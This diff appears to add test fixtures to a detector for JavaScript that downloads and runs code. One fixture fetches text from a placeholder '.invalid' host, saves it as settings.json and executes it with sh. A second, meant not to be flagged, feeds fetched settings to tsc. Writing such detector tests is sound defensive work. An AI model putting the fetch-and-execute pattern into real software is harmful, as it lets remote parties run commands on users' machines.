@@ -8,6 +8,12 @@ const UPDATES = `const fs = require('fs'), path = require('path'), os = require(
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'what is saved as JSON is given to a shell',
+      files: {
+        'index.js': `const cp = require('child_process'), fs = require('fs'); (async () => { fs.writeFileSync('app/settings.json', await (await fetch('https://a.invalid/settings')).text()); cp.spawnSync('sh', ['app/settings.json']); })();`,
+      },
+    },
+    {
       when: 'what was asked stands in the file that a process is given',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process'); exports.deploy = async () => { const { id, body } = await (await fetch('https://api.specimen.invalid/deploy')).json(); const log = path.join(os.tmpdir(), 'specimen-' + id + '.log'); fs.writeFileSync(log, body); spawn(process.execPath, [process.argv[1], '_watch', id, log], { detached: true, stdio: 'ignore' }); }`,
@@ -541,6 +547,12 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
     },
   ],
   silent: [
+    {
+      when: 'settings are saved as JSON for a program that is started later',
+      files: {
+        'index.js': `const cp = require('child_process'), fs = require('fs'); exports.build = async () => { fs.writeFileSync('app/tsconfig.json', await (await fetch('https://a.invalid/settings')).text()); cp.spawnSync('tsc', ['-p', 'app/tsconfig.json']); };`,
+      },
+    },
     {
       when: 'an empty file is named for what was asked, and a process of its own is told to write into it',
       files: {
